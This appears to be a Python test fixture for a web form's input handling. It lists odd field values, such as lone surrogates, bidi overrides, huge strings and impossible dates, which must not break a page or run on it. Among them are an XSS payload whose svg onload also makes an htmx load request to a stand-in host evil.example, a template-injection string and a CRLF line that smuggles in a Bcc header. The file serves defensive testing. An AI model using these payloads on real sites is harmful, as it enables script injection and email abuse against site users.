"""What somebody may write into any field (I01): nothing of it may break a page or come alive on it."""

from urllib.parse import quote_from_bytes

ODD = {
    "NUL": "a\x00b",
    "half a pair": "a\ud800b",
    "turned": "abc\u202edef",
    "marks": "e" + "\u0301" * 1000,
    "zero width": "a\u200b\u200d\ufeffb",
    "emoji": "👩🏽\u200d⚕️" * 20,
    "twins": "\u00e5 a\u030a \uff21",
    "a lot": "x" * 100_000,
    "template": "{{7*7}}{% debug %}",
    "html": '"><svg onload=alert(1)><div hx-get=//evil.example hx-trigger=load>',
    "lines": "a\r\nBcc: eve@example.com\r\n\r\nb",
    "minus": "-1",
    "number": "1e400",
    "digits": "9" * 5000,
    "other digits": "٢٠٢٦-١١-٢٨T١٠:٠٠",
    "far": "9999-12-31T23:59",
    "no such day": "2026-02-30T10:00",
}
ALIVE = (b"<svg onload", b"<div hx-get=//evil")


def form_body(sent: dict[str, str]) -> str:
    """As a program sends it that does not care what UTF-8 allows: half a surrogate pair goes out as three bytes."""
    return "&".join(f"{_quoted(name)}={_quoted(value)}" for name, value in sent.items())


def _quoted(text: str) -> str:
    return quote_from_bytes(text.encode("utf-8", "surrogatepass"), safe="")
